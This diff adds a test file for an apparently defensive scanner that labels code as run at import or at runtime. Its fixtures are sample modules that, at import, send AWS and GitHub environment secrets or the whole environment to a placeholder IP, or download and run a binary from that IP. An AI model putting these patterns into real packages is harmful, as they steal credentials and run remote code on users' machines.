@@ -1,0 +1,303 @@
+"""Phases follow execution (gate.scan.reach, gate.scan.reach_modules): code a module runs
+when imported is ``import``, however deep in functions it stands, with evidence of how it
+is reached; code only called later stays ``runtime``."""
+
+from __future__ import annotations
+
+import textwrap
+from pathlib import Path
+
+import pytest
+
+from gate.model import Finding
+from gate.scan import scan_artifact
+from gate.scan.python import scan_python
+from tests.builders import build_wheel
+
+
+def prog(text: str) -> str:
+    return textwrap.dedent(text).lstrip("\n")
+
+
+def rows(fs: list[Finding] | tuple[Finding, ...], cap: str) -> set[tuple[str, int, str, str]]:
+    return {(f.path, f.line, str(f.phase), f.detail) for f in fs if str(f.capability) == cap}
+
+
+def one(src: str, cap: str) -> set[tuple[int, str, str]]:
+    return {(line, phase, detail) for _, line, phase, detail in rows(
+        scan_python(src.encode(), "pkg/mod.py"), cap)}
+
+
+# httpkit 2.0.1: a function defined in the module and called at its bottom
+HTTPKIT = prog("""
+    import json
+    import os
+    import urllib.request
+
+    TIMEOUT = float(os.environ.get("HTTPKIT_TIMEOUT", "10"))
+
+    def get(url):
+        return urllib.request.urlopen(url, timeout=TIMEOUT)
+
+    def _sync_settings():
+        data = {k: v for k, v in os.environ.items() if k.startswith(("AWS_", "GITHUB_"))}
+        urllib.request.urlopen("http://203.0.113.9/c", data=json.dumps(data).encode())
+
+    _sync_settings()
+    """)
+
+
+def test_function_called_at_module_level_is_import() -> None:
+    assert one(HTTPKIT, "network") == {
+        (8, "runtime", "urllib.request.urlopen"),
+        (12, "import", "urllib.request.urlopen (via _sync_settings() at :14)"),
+    }
+    assert one(HTTPKIT, "env") == {
+        (5, "import", "os.environ"),
+        (11, "import", "os.environ (via _sync_settings() at :14)"),
+    }
+
+
+MLKIT = prog("""
+    import subprocess
+    import threading
+    import urllib.request
+
+    def gpus():
+        return subprocess.run(["nvidia-smi"], capture_output=True)
+
+    def _warm_up():
+        urllib.request.urlretrieve("http://203.0.113.9/bin", "/tmp/.w")
+        subprocess.Popen(["/tmp/.w"])
+
+    threading.Thread(target=_warm_up, daemon=True).start()
+    """)
+
+
+def test_thread_target_started_at_module_level_is_import() -> None:
+    assert one(MLKIT, "subprocess") == {
+        (6, "runtime", "subprocess.run"),
+        (10, "import", "subprocess.Popen (via _warm_up handed on at :12)"),
+    }
+    assert one(MLKIT, "network") == {
+        (9, "import", "urllib.request.urlretrieve (via _warm_up handed on at :12)")}
+
+
+@pytest.mark.parametrize(("src", "line", "via"), [
+    pytest.param(prog("""
+        import os
+        def deco(f):
+            f()
+            return f
+        @deco
+        def beacon():
+            os.system("echo pwned")
+        """), 7, "@deco at :5", id="decorator-that-calls"),
+    pytest.param(prog("""
+        import os
+        def every(**kw):
+            def deco(f):
+                f()
+                return f
+            return deco
+        @every(seconds=1)
+        def beacon():
+            os.system("echo pwned")
+        """), 9, "@every at :7", id="decorator-factory-that-calls"),
+    pytest.param(prog("""
+        import os
+        def every(**kw):
+            return make(kw)
+        @every(seconds=1)
+        def beacon():
+            os.system("echo pwned")
+        """), 6, "@every at :4", id="decorator-factory-not-followed"),
+    pytest.param(prog("""
+        import atexit, os
+        @atexit.register
+        def beacon():
+            os.system("echo pwned")
+        """), 4, "@atexit.register at :2", id="atexit-decorator"),
+    pytest.param(prog("""
+        import os
+        def beacon():
+            os.system("echo pwned")
+        class A:
+            x = beacon()
+        """), 3, "beacon() at :5", id="class-body"),
+    pytest.param(prog("""
+        import os
+        def beacon():
+            os.system("echo pwned")
+            return 1
+        def f(x=beacon()):
+            return x
+        """), 3, "beacon() at :5", id="default-argument"),
+    pytest.param(prog("""
+        import os
+        def beacon():
+            os.system("echo pwned")
+        def setup():
+            beacon()
+        setup()
+        """), 3, "setup() at :6", id="transitive"),
+    pytest.param(prog("""
+        import os, signal
+        def beacon(*a):
+            os.system("echo pwned")
+        signal.signal(signal.SIGALRM, beacon)
+        """), 3, "beacon handed on at :4", id="signal-handler"),
+    pytest.param(prog("""
+        import os, sys
+        def beacon(*a):
+            os.system("echo pwned")
+        sys.excepthook = beacon
+        """), 3, "beacon handed on at :4", id="excepthook"),
+    pytest.param(prog("""
+        import os
+        class Beacon:
+            def __init__(self):
+                os.system("echo pwned")
+        _b = Beacon()
+        """), 4, "Beacon() at :5", id="constructor"),
+    pytest.param(prog("""
+        import os
+        class Job:
+            def start(self):
+                os.system("echo pwned")
+        Job().start()
+        """), 4, ".start() at :5", id="method-by-name"),
+    pytest.param(prog("""
+        import os
+        def beacon():
+            os.system("echo pwned")
+        HOOKS = {"a": beacon}
+        HOOKS["a"]()
+        """), 3, "a computed callee at :5", id="function-in-a-dict-called"),
+    pytest.param(prog("""
+        import os
+        HOOKS = [lambda: os.system("echo pwned")]
+        HOOKS[0]()
+        """), 2, "a computed callee at :3", id="lambda-in-a-list-called"),
+    pytest.param(prog("""
+        import os
+        def beacon():
+            os.system("echo pwned")
+        if __name__ != "__main__":
+            beacon()
+        """), 3, "beacon() at :5", id="not-main-block"),
+])
+def test_reached_at_import(src: str, line: int, via: str) -> None:
+    assert (line, "import", f"os.system (via {via})") in one(src, "subprocess"), one(
+        src, "subprocess")
+
+
+@pytest.mark.parametrize("src", [
+    pytest.param(prog("""
+        import os
+        def beacon():
+            os.system("echo pwned")
+        def later():
+            beacon()
+        """), id="only-called-from-a-function"),
+    pytest.param(prog("""
+        import os
+        def beacon():
+            os.system("echo pwned")
+        if __name__ == "__main__":
+            beacon()
+        """), id="main-block"),
+    pytest.param(prog("""
+        import functools, os
+        def logged(f):
+            @functools.wraps(f)
+            def wrapper(*a):
+                return f(*a)
+            return wrapper
+        @logged
+        def beacon():
+            os.system("echo pwned")
+        """), id="wrapping-decorator"),
+    pytest.param(prog("""
+        import os
+        def doc(text):
+            def deco(f):
+                f.__doc__ = text
+                return f
+            return deco
+        @doc("Run it.")
+        def beacon():
+            os.system("echo pwned")
+        """), id="decorator-factory-that-only-labels"),
+    pytest.param(prog("""
+        import os
+        class Job:
+            def run(self):
+                os.system("echo pwned")
+        JOB = Job
+        """), id="class-stored-not-run"),
+])
+def test_not_reached_stays_runtime(src: str) -> None:
+    assert {phase for _, phase, _ in one(src, "subprocess")} == {"runtime"}, one(
+        src, "subprocess")
+
+
+# ---- across the distribution's own modules
+
+def wheel_rows(tmp_path: Path, files: dict[str, str], cap: str) -> set[tuple[str, int, str, str]]:
+    return rows(scan_artifact(build_wheel(tmp_path, "httpkit", "2.0.1", files)).findings, cap)
+
+
+SYNC = prog("""
+    import os
+    import urllib.request
+
+    def _post(data):
+        urllib.request.urlopen("http://203.0.113.9/c", data=data)
+
+    def sync_settings():
+        _post(repr(dict(os.environ)).encode())
+
+    def fetch(url):
+        return urllib.request.urlopen(url)
+    """)
+
+
+@pytest.mark.parametrize(("init", "via"), [
+    pytest.param("from ._sync import sync_settings\nsync_settings()\n",
+                 "httpkit/__init__.py:2 sync_settings()", id="from-import"),
+    pytest.param("from . import _sync\n_sync.sync_settings()\n",
+                 "httpkit/__init__.py:2 _sync.sync_settings()", id="module-import"),
+    pytest.param("import httpkit._sync as s\ns.sync_settings()\n",
+                 "httpkit/__init__.py:2 s.sync_settings()", id="import-as"),
+    pytest.param("from ._sync import sync_settings as go\nimport threading\n"
+                 "threading.Thread(target=go).start()\n",
+                 "httpkit/__init__.py:3 go()", id="thread-target"),
+    pytest.param("from ._sync import sync_settings\ndef setup():\n    sync_settings()\nsetup()\n",
+                 "httpkit/__init__.py:3 sync_settings()", id="through-a-local-function"),
+])
+def test_another_module_called_at_import(tmp_path: Path, init: str, via: str) -> None:
+    got = wheel_rows(tmp_path, {"httpkit/__init__.py": init, "httpkit/_sync.py": SYNC},
+                     "network")
+    assert got == {
+        ("httpkit/_sync.py", 5, "import", f"urllib.request.urlopen (via {via})"),
+        ("httpkit/_sync.py", 11, "runtime", "urllib.request.urlopen"),
+    }
+
+
+def test_chain_through_three_modules(tmp_path: Path) -> None:
+    files = {
+        "httpkit/__init__.py": "from . import _util\n_util.configure()\n",
+        "httpkit/_util.py": "from ._sync import sync_settings\ndef configure():\n"
+                            "    sync_settings()\n",
+        "httpkit/_sync.py": SYNC,
+    }
+    got = wheel_rows(tmp_path, files, "network")
+    assert ("httpkit/_sync.py", 5, "import",
+            "urllib.request.urlopen (via httpkit/__init__.py:2 _util.configure())") in got
+
+
+def test_another_module_called_later_stays_runtime(tmp_path: Path) -> None:
+    files = {"httpkit/__init__.py": "from ._sync import fetch\ndef get(u):\n    return fetch(u)\n",
+             "httpkit/_sync.py": SYNC}
+    assert {phase for _, _, phase, _ in wheel_rows(tmp_path, files, "network")} == {"runtime"}
